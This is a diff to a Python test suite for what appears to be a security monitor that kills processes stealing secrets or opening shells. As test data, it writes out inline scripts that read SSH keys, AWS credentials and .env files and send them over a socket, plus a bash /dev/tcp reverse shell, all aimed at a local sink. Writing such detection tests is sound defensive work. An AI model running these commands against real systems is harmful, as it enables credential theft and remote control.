@@ -248,7 +248,8 @@ def test_keys_collected_by_a_script(incident: Incident) -> None:
     code = "import os, socket, sys, time; d = open(os.path.expanduser(sys.argv[1]), 'rb').read();"
     code += "time.sleep(0.4); socket.create_connection(('127.0.0.1', 9000)).sendall(d)"
     steps = [
-        f'python3 -c "{code}" {path}; exit $?' for path in ("~/.ssh/id_ed25519", "~/.aws/credentials")
+        f'python3 -c "{code}" {path}; exit $?'
+        for path in ("~/.ssh/id_ed25519", "~/.aws/credentials")
     ]
     run = incident(
         ("secrets.ssh-private-keys", "secrets.cloud-credentials", "secrets.token-files-by-hand"),
@@ -259,11 +260,23 @@ def test_keys_collected_by_a_script(incident: Incident) -> None:
     assert b"aws_secret" not in incident.stage.sink
 
 
+def test_a_home_swept_for_secrets(incident: Incident) -> None:
+    """The sixth file is one too many: what was collected is not sent."""
+    stage = incident.stage
+    for number in range(12):
+        stage.write(f"work/{number}/.env", f"KEY={stage.canary}\n")
+    code = "import glob, os, socket, time; found = [];"
+    code += "found = [open(p).read() for p in glob.glob(os.path.expanduser('~/work/*/.env'))];"
+    code += "time.sleep(0.4);"
+    code += "socket.create_connection(('127.0.0.1', 9000)).sendall(''.join(found).encode())"
+    run = incident(("secrets.many-files",), f'python3 -c "{code}"; exit $?')
+    assert run.steps == [KILLED]
+    assert stage.canary.encode() not in stage.sink
+
+
 def test_a_shell_handed_over(incident: Incident) -> None:
     """The shell whose input is a connection is killed."""
-    run = incident(
-        ("execution.reverse-shell",), "bash -i >& /dev/tcp/127.0.0.1/9000 0>&1; exit $?"
-    )
+    run = incident(("execution.reverse-shell",), "bash -i >& /dev/tcp/127.0.0.1/9000 0>&1; exit $?")
     assert run.steps == [KILLED]
 
 
@@ -282,5 +295,3 @@ def test_work_handed_to_somebody_else(incident: Incident) -> None:
     )
     assert run.steps == [KILLED, 0, KILLED]
     assert {path.name for path in stage.effects.iterdir()} == {"systemd-run"}
-
-
